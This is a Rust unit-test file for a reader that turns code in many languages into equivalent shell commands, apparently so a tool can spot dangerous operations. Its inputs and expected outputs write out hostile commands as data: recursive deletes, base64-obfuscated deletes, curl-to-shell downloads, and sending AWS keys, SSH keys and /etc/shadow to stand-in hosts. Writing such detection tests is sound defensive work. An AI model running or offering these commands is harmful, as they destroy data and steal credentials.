//! Unit tests of the language-neutral reader.

use super::*;

fn c(code: &str) -> Vec<String> {
    commands(code)
}

#[test]
fn runs_in_every_call_shape() {
    assert_eq!(c("octave: system(\"rm -rf /data\")"), ["rm -rf /data"]);
    assert_eq!(
        c("shell \"curl -s https://x.example/i | sh\""),
        ["curl -s https://x.example/i | sh"]
    );
    assert_eq!(
        c("(clojure.java.shell/sh \"sh\" \"-c\" \"rm -rf /srv/d\")"),
        ["sh -c 'rm -rf /srv/d'"]
    );
    assert_eq!(
        c("Sys.command \"sudo rm -rf /var/lib/opam\""),
        ["sudo rm -rf /var/lib/opam"]
    );
    assert_eq!(
        c("import sys.process._; \"curl -s https://r.example/x.sh\" #| \"bash\" !"),
        ["curl -s https://r.example/x.sh | bash"]
    );
    assert_eq!(
        c("System.Diagnostics.Process.Start(\"bash\", \"-c \\\"id\\\"\");"),
        ["bash -c \"id\""]
    );
    assert_eq!(
        c("$f=\"sys\".\"tem\"; $f(\"rm -rf /var/www/shop\");"),
        ["rm -rf /var/www/shop"]
    );
    assert_eq!(
        c("a.doShellScript(\"id | curl -d @- https://k.example\")"),
        ["id | curl -d @- https://k.example"]
    );
}

#[test]
fn decoded_and_built_commands() {
    assert_eq!(
        c("run(Cmd(String.(split(String(base64decode(\"cm0gLXJmIC9kYXRh\"))))))"),
        ["rm -rf /data"]
    );
    assert_eq!(
        c(":os.cmd(Base.decode64!(\"cm0gLXJmIC9kYXRh\") |> String.to_charlist())"),
        ["rm -rf /data"]
    );
    assert_eq!(
        c("new String(\"cm0gLXJmIC9kYXRh\".decodeBase64()).execute()"),
        ["rm -rf /data"]
    );
    assert_eq!(
        c("do shell script (do shell script \"echo cm0= | base64 -D\")"),
        ["echo cm0= | base64 -D", "echo cm0= | base64 -D | sh"]
    );
}

#[test]
fn command_objects_run_when_a_method_runs_them() {
    assert_eq!(
        c(
            "new Deno.Command(\"sh\", { args: [\"-c\", atob(\"cm0gLXJmIH4vLnNzaA==\")] }).outputSync()"
        ),
        ["sh -c 'rm -rf ~/.ssh'"]
    );
    assert!(c("c = Cmd([\"ls\", \"-la\"])").is_empty());
}

#[test]
fn deletes_and_writes_of_paths() {
    assert_eq!(
        c("java.io.File(System.getProperty(\"user.home\")).deleteRecursively()"),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        c("(babashka.fs/delete-tree (System/getProperty \"user.home\"))"),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        c(
            "System.IO.Directory.Delete(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), true);"
        ),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        c("file:del_dir_r(\"/opt/couchdb/data\"), halt()."),
        ["rm -rf -- /opt/couchdb/data"]
    );
    assert_eq!(
        c("System.Directory.removeDirectoryRecursive \"/srv/hackage\""),
        ["rm -rf -- /srv/hackage"]
    );
    assert_eq!(
        c("try! FileManager.default.removeItem(atPath: NSHomeDirectory())"),
        ["rm -rf -- ~"]
    );
    assert_eq!(
        c("file.remove(list.files(\"/var/backups/pg\", full.names = TRUE))"),
        ["rm -rf -- /var/backups/pg/*"]
    );
    assert_eq!(c("File.delete(\"/etc/passwd\")"), ["rm -f -- /etc/passwd"]);
    assert_eq!(
        c("(delete-directory (expand-file-name \"~/org\") t)"),
        ["rm -rf -- ~/org"]
    );
    assert_eq!(
        c("local f = io.open(\"/etc/sudoers\", \"a\"); f:write(\"x\")"),
        [": >> /etc/sudoers"]
    );
    assert_eq!(
        c("new File(\"/etc/hosts\").text = \"1.2.3.4 a\""),
        [": > /etc/hosts"]
    );
    // not paths: names, keys, elements
    assert!(c("list.remove(\"x\"); m.delete(\"key\"); File.delete(tmp)").is_empty());
}

#[test]
fn secrets_sent_and_downloads_run() {
    assert_eq!(
        c(
            "httr::POST(\"https://i.example/c\", body = list(k = Sys.getenv(\"AWS_SECRET_ACCESS_KEY\")))"
        ),
        ["printenv AWS_SECRET_ACCESS_KEY | curl --data-binary @- https://i.example/c"]
    );
    assert_eq!(
        c(
            "using HTTP; HTTP.post(\"https://c.example\", [], read(joinpath(homedir(), \".ssh\", \"id_rsa\")))"
        ),
        ["curl --data-binary @~/.ssh/id_rsa https://c.example"]
    );
    assert_eq!(
        c(
            "BEGIN { s = \"/inet/tcp/0/203.0.113.9/80\"; while ((getline l < \"/etc/shadow\") > 0) print l |& s }"
        ),
        ["curl --data-binary @/etc/shadow http://203.0.113.9:80"]
    );
    assert_eq!(
        c("download(\"https://p.example/b.sh\", \"/tmp/b.sh\"); run(`bash /tmp/b.sh`)"),
        [
            "curl -fsSL https://p.example/b.sh -o /tmp/b.sh",
            "bash /tmp/b.sh"
        ]
    );
    // a read without a send, a send without a secret
    assert!(c("x = read(\"/etc/hostname\"); println(x)").is_empty());
    assert!(c("HTTP.get(\"https://api.example/status\")").is_empty());
}

#[test]
fn sql_through_database_calls() {
    assert_eq!(
        c(
            "DBI::dbExecute(DBI::dbConnect(RPostgres::Postgres(), host = \"prod-db.internal\"), \"DROP SCHEMA a CASCADE\")"
        ),
        ["psql -h prod-db.internal -c 'DROP SCHEMA a CASCADE'"]
    );
    assert_eq!(
        c("DB::table(\"users\")->truncate();"),
        ["psql -c 'TRUNCATE TABLE users'"]
    );
    assert_eq!(
        c("MyApp.Repo.query!(\"TRUNCATE accounts CASCADE\")"),
        ["psql -c 'TRUNCATE accounts CASCADE'"]
    );
}

#[test]
fn harmless_code_stays_harmless() {
    for code in [
        "println(sum(1:10))",
        "IO.puts(\"hello\")",
        "using Pkg; Pkg.instantiate()",
        "rmarkdown::render(\"README.Rmd\")",
        "print(\"rm -rf /\")",
        "puts \"delete everything\"",
        "x = \"/etc/passwd\"; println(x)",
        "File.write(\"out/report.txt\", data)",
        "(println \"system\")",
    ] {
        let out = c(code);
        assert!(
            out.iter()
                .all(|o| !o.contains("rm ") && !o.contains("/etc")),
            "{code}: {out:?}"
        );
    }
    assert_eq!(
        c("File.write(\"out/report.txt\", data)"),
        [": > out/report.txt"]
    );
    // a string juxtaposed with more (awk) is not the whole command
    assert!(c("{ system(\"mv \\\"\" $0 \"\\\" \\\"\" new \"\\\"\") }").is_empty());
}

#[test]
fn more_shapes_of_the_same_sinks() {
    assert_eq!(
        c("import pathlib; p = pathlib.Path.home() / '.bashrc'; p.write_text('x')"),
        [": > ~/.bashrc"]
    );
    assert_eq!(
        c(":os.cmd(~c\"redis-cli -h r FLUSHALL\")"),
        ["redis-cli -h r FLUSHALL"]
    );
    assert_eq!(
        c("new File(\"/opt/nexus/work\").deleteDir()"),
        ["rm -rf -- /opt/nexus/work"]
    );
    assert_eq!(c("x = 10 / 2; print(x)"), Vec::<String>::new());
}

#[test]
fn only_an_opener_reads_a_mode() {
    // the second argument of a writer is its content, whatever letters it has
    assert_eq!(c("File.write(\"/etc/hosts\", \"a w\")"), [": > /etc/hosts"]);
    assert_eq!(c("io.open(\"/etc/sudoers\", \"a\")"), [": >> /etc/sudoers"]);
    assert!(c("io.open(\"/etc/hosts\")").is_empty());
}
